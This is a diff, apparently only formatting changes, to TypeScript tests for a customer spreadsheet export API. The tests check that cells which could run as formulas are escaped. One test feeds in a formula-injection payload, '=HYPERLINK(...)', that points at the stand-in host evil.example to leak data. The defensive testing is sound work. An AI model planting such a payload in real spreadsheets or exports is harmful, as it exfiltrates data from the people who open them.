@@ -63,9 +63,19 @@ describe('GET /customers/{id}/export?format=xlsx', () => {
 
     expect(book.Orders![0]).toEqual(['number', 'placedAt', 'status', 'total', 'currency', 'items', 'quantity']);
     expect(book.Orders!.length - 1).toBe(orders.totalOrders);
-    expect(book.Orders![1]).toEqual([orders.orders[0].number, orders.orders[0].placedAt, orders.orders[0].status, orders.orders[0].total,
-      orders.orders[0].currency, orders.orders[0].itemsCount, orders.orders[0].quantity]);
-    const sum = book.Orders!.slice(1).filter((r) => r[2] === 'completed' || r[2] === 'delivered').reduce((s, r) => s + (r[3] as number), 0);
+    expect(book.Orders![1]).toEqual([
+      orders.orders[0].number,
+      orders.orders[0].placedAt,
+      orders.orders[0].status,
+      orders.orders[0].total,
+      orders.orders[0].currency,
+      orders.orders[0].itemsCount,
+      orders.orders[0].quantity,
+    ]);
+    const sum = book
+      .Orders!.slice(1)
+      .filter((r) => r[2] === 'completed' || r[2] === 'delivered')
+      .reduce((s, r) => s + (r[3] as number), 0);
     expect(sum).toBeCloseTo(view.metrics.lifetimeValue, 2);
     expect(book.Support!.length - 1).toBe(support.totalTickets);
 
@@ -77,8 +87,11 @@ describe('GET /customers/{id}/export?format=xlsx', () => {
   it('escapes text a spreadsheet would run as a formula, as the CSV does', async () => {
     const name = '=HYPERLINK("http://evil.example/?leak=1")';
     const post = await sample.call('/events', {
-      method: 'POST', headers: { 'content-type': 'application/json' },
-      body: JSON.stringify([{ id: 'xlsx-formula-1', type: 'customer.upserted', occurredAt: '2011-11-01T10:00:00.000Z', data: { customerId: 'xlsx-f1', name } }]),
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify([
+        { id: 'xlsx-formula-1', type: 'customer.upserted', occurredAt: '2011-11-01T10:00:00.000Z', data: { customerId: 'xlsx-f1', name } },
+      ]),
     });
     expect(post.status).toBe(200);
     const book = await readWorkbook(await (await raw('/customers/xlsx-f1/export?format=xlsx')).arrayBuffer());
@@ -87,14 +100,19 @@ describe('GET /customers/{id}/export?format=xlsx', () => {
   });
 
   it('escapes text exactly as the CSV export does; numbers and booleans pass unchanged (property)', () => {
-    fc.assert(fc.property(fc.string({ minLength: 1, unit: 'grapheme-ascii' }), (value) => {
-      const csvCell = Papa.parse<string[]>(csvLines([[value]]), { newline: '\r\n', delimiter: ',' }).data[0]![0];
-      expect(xlsxCell(value)).toBe(csvCell);
-      expect(xlsxCell(value)).not.toMatch(/^[=+\-@\t\r]/);
-    }), { examples: [['=1+1'], ['+44 20'], ['-5'], ['@SUM(A1)'], ['\tx'], ['\rx'], ['plain']] });
-    fc.assert(fc.property(fc.oneof(fc.double(), fc.boolean(), fc.constant(null)), (value) => {
-      expect(xlsxCell(value)).toBe(value);
-    }));
+    fc.assert(
+      fc.property(fc.string({ minLength: 1, unit: 'grapheme-ascii' }), (value) => {
+        const csvCell = Papa.parse<string[]>(csvLines([[value]]), { newline: '\r\n', delimiter: ',' }).data[0]![0];
+        expect(xlsxCell(value)).toBe(csvCell);
+        expect(xlsxCell(value)).not.toMatch(/^[=+\-@\t\r]/);
+      }),
+      { examples: [['=1+1'], ['+44 20'], ['-5'], ['@SUM(A1)'], ['\tx'], ['\rx'], ['plain']] },
+    );
+    fc.assert(
+      fc.property(fc.oneof(fc.double(), fc.boolean(), fc.constant(null)), (value) => {
+        expect(xlsxCell(value)).toBe(value);
+      }),
+    );
   });
 
   it('needs the export permission', async () => {
@@ -117,7 +135,9 @@ describe('GET /customers/export.xlsx', () => {
     const [header, ...rows] = book.Customers!;
     expect(header).toEqual(['id', 'name', 'email', 'phone', 'country', 'currency', 'lifetimeValue', 'totalOrders', 'lastPurchaseAt']);
     expect(rows.length).toBe(search.total);
-    expect(rows.slice(0, search.items.length).map((r) => [r[0], r[6], r[7]])).toEqual(search.items.map((c: any) => [c.id, c.lifetimeValue, c.totalOrders]));
+    expect(rows.slice(0, search.items.length).map((r) => [r[0], r[6], r[7]])).toEqual(
+      search.items.map((c: any) => [c.id, c.lifetimeValue, c.totalOrders]),
+    );
     expect(new Map(book.Export!.map((r) => [r[0], r[1]])).get('customers')).toBe(String(search.total));
     expect(await auditCount('export.customers.xlsx')).toBe(before + 1);
   });
